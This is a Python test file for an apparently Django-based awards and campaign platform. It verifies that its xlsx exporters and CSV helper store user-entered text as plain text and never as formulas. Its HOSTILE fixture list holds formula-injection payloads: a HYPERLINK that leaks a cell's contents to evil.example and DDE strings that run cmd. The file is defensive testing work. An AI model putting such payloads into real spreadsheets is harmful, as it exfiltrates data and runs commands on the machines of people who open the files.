"""Text people type never becomes a spreadsheet formula, in any xlsx or csv the platform
writes: every registered spreadsheet exporter is rendered with hostile names and read back."""

import csv
import io
from decimal import Decimal

import pytest

from tests.documents.conftest import make_project
from tests.documents.helpers import xlsx
from tests.factories import Role, UserFactory, grant, make_org, participation
from wuxiao.awards.models import Award, AwardLevel, AwardSheet
from wuxiao.campaigns.imports import template_workbook
from wuxiao.documents.registry import EXPORTERS, XLSX
from wuxiao.lib.spreadsheets import csv_row, write_cell
from wuxiao.people.models import OrgKind
from wuxiao.projects.states import ProjectState
from wuxiao.salons.models import Salon, Signup, SignupStatus

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_world(campaign, district, alice_committee):
    unit = make_org("=1+1 单位", OrgKind.ENTERPRISE, district, contact_name="@联系人", contact_phone="13877200001")
    part = participation(campaign, unit, young_workers=230)
    part.reporter_name, part.reporter_phone = "=填报人()", "13877200001"
    part.save()
    leader = UserFactory(username="hostile", real_name="+韦", mobile="13877200009")
    grant(leader, unit, Role.APPLICANT)
    sheet = AwardSheet.objects.create(campaign=campaign, total=len(HOSTILE))
    for i, text in enumerate(HOSTILE):
        project = make_project(
            campaign,
            unit,
            leader,
            name=text,
            leader_name=HOSTILE[(i + 1) % len(HOSTILE)],
            category="其他",
            category_other=HOSTILE[(i + 2) % len(HOSTILE)],
            economic_benefit=Decimal("1.00"),
            self_grade="A",
            state=ProjectState.FORWARDED,
        )
        level = AwardLevel.FIRST if i % 2 else AwardLevel.SECOND
        Award.objects.create(sheet=sheet, project=project, rank=i + 1, proposed_level=level, level=level)
    salon = Salon.objects.create(
        campaign=campaign, topic=HOSTILE[0], starts_at="2025-05-20T14:30+08:00", place=HOSTILE[1], capacity=10,
        signup_deadline="2025-05-19T18:00+08:00", created_by=alice_committee,
    )  # fmt: skip
    Signup.objects.create(salon=salon, user=leader, status=SignupStatus.CONFIRMED)
    return unit


def spreadsheet_exporters():
    return sorted(identifier for identifier, e in EXPORTERS.items() if e.content_type == XLSX)


def target(identifier, *, campaign, committee, unit):
    """What each spreadsheet exporter exports, as the committee (which sees everything)."""
    return {
        "summary.xlsx": [(committee, {"campaign": campaign.pk}), (unit, {"campaign": campaign.pk})],
        "project_list.xlsx": [(campaign, {"campaign": campaign.pk, "filters": {}})],
        "progress.xlsx": [(campaign, {"campaign": campaign.pk})],
        "results.xlsx": [(campaign.award_sheet, {"sheet": campaign.award_sheet.pk})],
        "talents.xlsx": [(campaign.award_sheet, {"sheet": campaign.award_sheet.pk})],
        "organisation_awards.xlsx": [(campaign.award_sheet, {"sheet": campaign.award_sheet.pk})],
        "salon_attendance.xlsx": [(campaign.salons.get(), {})],
        "stats.xlsx": [(unit, {"campaign": campaign.pk}), (committee, {"campaign": campaign.pk})],
    }[identifier]


# Which of the hostile texts each exporter writes (the rest print only numbers and the names
# of organisations and people).
WRITES_HOSTILE_TEXT = {"summary.xlsx", "project_list.xlsx", "results.xlsx", "talents.xlsx"}


def formula_cells(content: bytes) -> list[str]:
    wb = xlsx(content)
    return [
        f"{ws.title}!{cell.coordinate}={cell.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    wb = xlsx(content)
    return {cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_every_spreadsheet_exporter_is_covered():
    """A new xlsx exporter must be added to `target` above (and so be checked here)."""
    assert spreadsheet_exporters() == [
        "organisation_awards.xlsx", "progress.xlsx", "project_list.xlsx", "results.xlsx", "salon_attendance.xlsx",
        "stats.xlsx", "summary.xlsx", "talents.xlsx",
    ]  # fmt: skip


@pytest.mark.parametrize("identifier", spreadsheet_exporters())
def test_hostile_text_stays_text(identifier, hostile_world, campaign, committee, alice_committee):
    exporter = EXPORTERS[identifier]
    for obj, params in target(identifier, campaign=campaign, committee=committee, unit=hostile_world):
        content = exporter.render(obj, user=alice_committee, params=params).content
        assert formula_cells(content) == []
        written = texts(content)
        if identifier in WRITES_HOSTILE_TEXT:
            hostile = HOSTILE if identifier != "talents.xlsx" else HOSTILE[1::2]  # 一等奖 only
            for text in hostile:
                assert text in written or any(text in w for w in written), text
        if identifier == "salon_attendance.xlsx":
            assert "+韦" in written and "=1+1 单位" in written
            assert any(w.startswith("青年创新沙龙签到表：" + HOSTILE[0]) for w in written)
        elif identifier != "stats.xlsx" or obj == hostile_world:  # the city's numbers name districts only
            assert any("=1+1 单位" in w for w in written)


def test_the_import_template_has_no_formula_cells():
    assert formula_cells(template_workbook()) == []


def test_write_cell_keeps_every_trigger_as_text():
    from openpyxl import Workbook

    ws = Workbook().active
    for row, text in enumerate(HOSTILE, start=1):
        cell = write_cell(ws, row, 1, text)
        assert (cell.data_type, cell.value) == ("s", text)
    assert write_cell(ws, 10, 1, 12.5).data_type == "n"


def test_csv_fields_are_escaped():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*HOSTILE, "普通项目", 3]))
    fields = next(csv.reader(io.StringIO(out.getvalue())))
    assert fields[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert fields[len(HOSTILE) :] == ["普通项目", "3"]
